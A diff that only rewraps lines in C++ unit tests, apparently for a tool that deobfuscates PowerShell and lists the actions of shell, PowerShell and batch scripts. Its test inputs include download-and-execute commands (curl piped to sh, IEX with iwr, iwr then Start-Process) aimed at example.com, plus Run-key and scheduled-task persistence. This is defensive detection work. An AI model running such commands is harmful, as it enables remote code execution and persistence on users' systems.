@@ -43,7 +43,8 @@ TEST(Commands, powershell_is_made_plain) {
   EXPECT_EQ(plain_powershell("'hZZp'.replace('Z','t')"), "'http'");
   EXPECT_EQ(plain_powershell("$a = 'x.exe'; Start-Process $a"), "$a = 'x.exe'; Start-Process 'x.exe'");
   EXPECT_EQ(plain_powershell("[Text.Encoding]::UTF8.GetString([Convert]::FromBase64String('aGk='))"), "'hi'");
-  EXPECT_EQ(plain_powershell("[System.Text.Encoding]::Unicode.GetString([Convert]::FromBase64String('aABpAA=='))"), "'hi'");
+  EXPECT_EQ(plain_powershell("[System.Text.Encoding]::Unicode.GetString([Convert]::FromBase64String('aABpAA=='))"),
+            "'hi'");
 }
 
 TEST(Commands, acts_of_scripts) {
@@ -51,9 +52,11 @@ TEST(Commands, acts_of_scripts) {
             "shell:curl http://example.com/i.sh -s\nshell:sh <-\nshell:rm -f x\n");
   EXPECT_EQ(shown_acts("iwr http://example.com/q -OutFile q.exe; Start-Process q.exe", "powershell"),
             "powershell:Invoke-WebRequest http://example.com/q > q.exe\npowershell:Start-Process q.exe\n");
-  EXPECT_EQ(shown_acts("IEX (iwr 'http://example.com/s')", "powershell"),
-            "powershell:Invoke-WebRequest http://example.com/s\npowershell:Invoke-Expression <- http://example.com/s\n");
-  EXPECT_EQ(shown_acts("reg add HKCU\\Run /v x\r\nschtasks /create", "batch"), "batch:reg add add HKCU\\Run /v x\nbatch:schtasks /create\n");
+  EXPECT_EQ(
+      shown_acts("IEX (iwr 'http://example.com/s')", "powershell"),
+      "powershell:Invoke-WebRequest http://example.com/s\npowershell:Invoke-Expression <- http://example.com/s\n");
+  EXPECT_EQ(shown_acts("reg add HKCU\\Run /v x\r\nschtasks /create", "batch"),
+            "batch:reg add add HKCU\\Run /v x\nbatch:schtasks /create\n");
   EXPECT_EQ(shown_acts("$iex = 1", "powershell"), "");
 }
 
